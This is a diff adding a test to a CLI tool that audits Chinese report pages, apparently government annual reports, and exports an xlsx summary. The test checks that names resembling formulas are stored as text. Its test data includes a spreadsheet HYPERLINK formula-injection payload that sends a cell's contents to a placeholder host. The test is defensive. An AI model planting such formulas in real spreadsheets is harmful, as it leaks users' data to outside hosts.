@@ -105,3 +105,25 @@ def test_cli_audit_listing_and_summary_line():
     assert result.exit_code == 0
     assert "第4页 表三“（六）其他处理”行" in result.output
     assert result.output.rstrip().endswith("共检查 4 个文件：4 个通过，0 个有错误。")
+
+
+def test_audit_summary_writes_organ_and_file_names_as_text(tmp_path):
+    """An organ or file named like a formula (`=`, `+`, `-`, `@`) is a string cell, never a live formula."""
+    names = ['=HYPERLINK("http://example.invalid/?"&A3,"点击")', "+1某某局", "-1某某局", "@SUM(A1)"]
+    pages = []
+    for number, org in enumerate(names):
+        report = sample("huaian-2024")
+        report.info.org = org
+        page = tmp_path / f"{org[0]}{number}.html"
+        page.write_text(report_html(report), encoding="utf-8")
+        pages.append(page)
+    out = tmp_path / "汇总.xlsx"
+    result = runner.invoke(app, ["audit", *map(str, pages), "-o", str(out)])
+    assert result.exit_code in (0, 1), result.output
+    wb = load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert all(c.data_type == "s" for c in cells)
+    shown = {c.value for c in cells}
+    assert (
+        set(names[1:]) <= shown and {p.name for p in pages} <= shown
+    )  # the first organ: read from the title
